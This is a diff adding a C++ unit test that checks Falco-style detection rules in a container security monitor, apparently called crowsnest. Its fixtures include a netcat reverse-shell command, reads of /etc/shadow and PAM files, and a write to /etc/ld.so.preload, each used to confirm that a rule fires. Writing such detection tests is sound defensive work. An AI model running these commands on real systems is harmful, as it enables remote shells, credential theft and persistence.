@@ -440,3 +440,39 @@ TEST_CASE("default rules: a user file appends to a list, adds an exception, disa
     CHECK(fired(exec_scene("/usr/bin/masscan", {"masscan", "10.0.0.0/8"}), *r) == Names{"network_scanner_in_container"});
     CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}), *r).empty());
 }
+
+// Rules written as falcosecurity/rules writes them load unchanged and fire.
+TEST_CASE("Falco-style rules load unchanged and fire", "[default_rules][falco]") {
+    std::vector<std::string> errors, warnings;
+    auto r = RuleSet::load({CROWSNEST_SOURCE_DIR "/tests/data/falco_style_rules.yaml"}, errors, warnings);
+    INFO(Catch::Detail::stringify(errors));
+    REQUIRE(r != nullptr);
+    CHECK(r->rule_count() == 4);
+    CHECK(warnings.size() == 13);  // required_engine_version, and output fields crowsnest lacks
+
+    const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}), *r);
+    REQUIRE(ds.size() == 2);
+    CHECK(ds[0].rule->name == "Launch Suspicious Network Tool in Container");
+    CHECK(ds[0].rule->category == "recon");  // mitre_discovery
+    CHECK(ds[0].rule->severity == "low");    // NOTICE
+    CHECK(ds[0].output.find("command=nc -e /bin/sh 10.0.0.1 4444 pid=4321 parent_process=sh container_id=" +
+                            kContainerId + " container_name=<NA>") != std::string::npos);
+    CHECK(ds[1].rule->name == "Netcat Remote Code Execution in Container");
+    CHECK(ds[1].rule->category == "other");
+    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh"}).on_host(), *r).empty());
+
+    CHECK(fired(open_scene("/etc/shadow"), *r) == Names{"Read sensitive file untrusted"});
+    CHECK(fired(open_scene("/etc/pam.d/common-auth"), *r) == Names{"Read sensitive file untrusted"});
+    Scene sshd = open_scene("/etc/shadow");
+    sshd.by("/usr/sbin/sshd", {"sshd"});
+    CHECK(fired(sshd, *r).empty());
+    CHECK(fired(open_scene("/etc/shadow", -13), *r).empty());  // fd.num >= 0: the open must succeed
+
+    Scene write = opened("/etc/ld.so.preload", O_WRONLY | O_CREAT);
+    const auto w = detect(write, *r);
+    REQUIRE(w.size() == 1);
+    CHECK(w[0].rule->category == "persistence");
+    CHECK(w[0].rule->severity == "high");  // ERROR
+    CHECK(w[0].output == "File below /etc opened for writing (user=<NA> command=cat /etc/ld.so.preload "
+                         "file=/etc/ld.so.preload flags=O_WRONLY|O_CREAT)");
+}
